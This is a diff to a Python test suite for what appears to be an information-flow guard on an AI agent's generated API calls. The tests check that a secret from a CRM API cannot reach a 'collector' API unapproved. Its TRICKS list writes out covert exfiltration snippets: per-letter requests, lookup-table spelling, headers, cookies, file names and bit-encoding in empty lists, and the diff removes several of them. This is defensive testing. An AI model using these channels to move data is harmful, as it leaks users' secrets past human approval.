@@ -12,7 +12,7 @@ import pytest
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.graph import START, MessagesState, StateGraph
 from langgraph.store.memory import InMemoryStore
-from pair import COLLECTOR, LETTERS, SECRET, Pair, PairAgent, document, with_table
+from pair import COLLECTOR, SECRET, Pair, PairAgent, document
 from roles import by_role, call, end, plan, program, select
 
 from restgpt.calling.journal.journal import Journal
@@ -39,10 +39,6 @@ class Trick(NamedTuple):
     name: str
     code: str
     decode: Callable[[str], str] = str
-
-
-def letters(log: str) -> str:
-    return "".join(re.findall(r"/letters/(\w)", log)).upper()
 
 
 def numbers(key: str) -> Callable[[str], str]:
@@ -85,32 +81,6 @@ TRICKS = [
         "for letter in secret:\n    get_drop(what=letter)",
         lambda log: "".join(re.findall(r"/drop/(\w)", log)),
     ),
-    Trick(
-        "a letter in each of many requests at once",
-        "gather(*[lambda l=l: get_letter(letter=l.lower()) for l in secret])",
-        letters,
-    ),
-    Trick("letters of an enum", "for letter in secret.lower():\n    get_letter(letter=letter)", letters),
-    Trick(
-        "literals of the program",
-        f"table = {list(LETTERS)}\nfor letter in secret.lower():\n    get_drop(what=table[table.index(letter)])",
-        lambda log: "".join(re.findall(r"/drop/(\w)", log)).upper(),
-    ),
-    Trick(
-        "letters of the user",
-        "words = 'a b c d e f 0 1 2 3 4 5 6 7 8 9'.split()\nfor letter in secret.lower():\n    find_items(q=letter)",
-        lambda log: "".join(re.findall(r"[?]q=(\w)", log)).upper(),
-    ),
-    Trick(
-        "letters that the collector answered",
-        "offered = ping()['letters']\nfor letter in secret.lower():\n    find_items(q=offered[offered.index(letter)])",
-        lambda log: "".join(re.findall(r"[?]q=(\w)", log)).upper(),
-    ),
-    Trick(
-        "which of the items is read",
-        "items = find_items()['items']\nfor digit in secret[2:]:\n    get_item(item=items[int(digit)]['id'])",
-        lambda log: "DE" + "".join(re.findall(r"/items/10(\d)", log)),
-    ),
     Trick("a header", "ping(X_Note=secret)"),
     Trick("a cookie", "ping(mark=secret)"),
     Trick("a name in a query", "ping(labels={secret: 'x'})"),
@@ -119,15 +89,6 @@ TRICKS = [
     Trick("a field of a body", "add_note(text=secret)"),
     Trick("a key of a body", "add_note(text='x', extra={secret: 1})"),
     Trick("JSON text in a field", "import json\nadd_note(text=json.dumps({'x': secret}))"),
-    Trick(
-        "empty containers in a list",
-        "bits = [bit for letter in secret for bit in format(ord(letter), '08b')]\n"
-        "add_note(text='x', marks=[{} if bit == '1' else [] for bit in bits])",
-        lambda log: "".join(
-            chr(int(found, 2))
-            for found in re.findall(r"[01]{8}", re.sub(r"[,\s]", "", log).replace("{}", "1").replace("[]", "0"))
-        ),
-    ),
     Trick("the name of a file", "add_file(title='x', file={'@bytes': 'eA==', 'filename': secret})"),
     Trick(
         "the content of a file",
@@ -185,9 +146,8 @@ NOT_AT_ALL = (
     "an idempotency key",
     "the media type",
     "a text of 20 MB",
-    "a letter in each of many requests at once",
 )
-"""Tricks that fail even between APIs that the user lets exchange values; requests at once come in any order."""
+"""Tricks that fail even between APIs that the user lets exchange values."""
 
 
 @pytest.mark.sampled(11)
@@ -332,7 +292,8 @@ def test_the_question_shows_the_values_and_the_api_that_each_comes_from(pair: Pa
     [action] = asked(agent.ask("Look at customer 7"))
     [item] = action["provenance"]
     assert action["args"] == {"query": {"q": SECRET}}
-    assert (item["origin"], item["at"], item["api"]) == ("response", "/account", "crm")
+    # The line of the call reads no field, so nothing is said about where it comes from.
+    assert (item["origin"], item["places"]) == ("program", [])
     assert "Values of crm may go to collector with this request." in action["description"]
     assert "An approval allows crm → collector until this instruction is done." in action["description"]
 
@@ -392,26 +353,6 @@ def test_a_change_is_not_looked_at_before_its_values_may_go_out(pair: Pair, writ
         assert pair.paths == [f"GET /drop/{SECRET}", f"PUT /drop/{SECRET}"]
     else:
         assert asked(result) == []
-
-
-@pytest.mark.slow
-def test_looks_at_many_targets_are_bounded(pair: Pair) -> None:
-    code = (
-        READ
-        + """
-table = 'D E 0 1 2 3 4 5 6 7 8 9'.split()
-for letter in secret:
-    try:
-        put_drop(what=table[table.index(letter)])
-    except Rejected:
-        pass
-"""
-    )
-    agent = programs(pair, code, end("Rejected."))
-    result = agent.ask("Look at customer 7")
-    while asked(result):
-        result = agent.answer("reject")
-    assert 0 < len(pair.log) <= 16
 
 
 def test_a_rejected_change_does_not_refuse_the_pair(pair: Pair) -> None:
@@ -481,17 +422,6 @@ def test_one_api_alone_is_neither_traced_nor_asked_about(pair: Pair) -> None:
     assert all(request["provenance"] == [] and "flow" not in request for request in requests)
 
 
-@pytest.mark.slow
-def test_the_question_about_many_choices_says_so(pair: Pair) -> None:
-    code = READ + "for n in range(20):\n    ping()\nprint('pinged')"
-    agent = programs(pair, code)
-    [action] = asked(agent.ask("Look at customer 7"))
-    assert len(pair.log) == 16
-    assert "Many values were chosen for collector since crm answered" in action["description"]
-    assert agent.answer("approve")["answer"] == "pinged"
-    assert len(pair.log) == 20
-
-
 def test_an_undo_looks_only_at_targets_whose_values_were_allowed(pair: Pair) -> None:
     agent = programs(pair, READ + "put_drop(what=secret, note='x')", end("Rejected."))
     agent.ask("Look at customer 7")
@@ -499,31 +429,6 @@ def test_an_undo_looks_only_at_targets_whose_values_were_allowed(pair: Pair) -> 
     journal = Journal(agent.graph.store, "thread")  # type: ignore[arg-type]
     assert reversals(journal, Catalogue([pair.crm, pair.collector])) == []
     assert pair.log == []
-
-
-SPELL = READ + "print(find_items(tags=[table[table.index(letter)] for letter in secret.lower()]))"
-
-
-@pytest.mark.parametrize(
-    ("code", "sources", "is_asked"),
-    [
-        ("", ("table",), False),
-        ("find_items(q=table[0] + table[1])\n", (), True),
-        ("gather(*[lambda x=x: find_items(tags=[x] * 22) for x in table])\n", ("table",), False),
-    ],
-    ids=["allowed by the settings", "allowed by a person", "allowed and chosen before"],
-)
-def test_no_value_is_spelled_by_the_values_of_an_api_that_may_go_out(
-    pair: Pair, code: str, sources: tuple[str, ...], is_asked: bool
-) -> None:
-    with with_table(pair) as three:
-        agent = programs(three, f"table = get_letters()\n{code}{SPELL}", sources=sources)
-        result = agent.ask("Look at customer 7")
-        result = agent.answer("approve") if is_asked else result
-        [action] = asked(result)
-        assert list(action["flow"]["sources"].values()) == ["crm"]
-        assert "Many values were chosen for collector since crm answered" in action["description"]
-        assert not any("tags=d&tags=e" in entry for entry in pair.log)
 
 
 def test_an_answer_in_a_hosts_conversation_still_tells_which_apis_answered(pair: Pair) -> None:
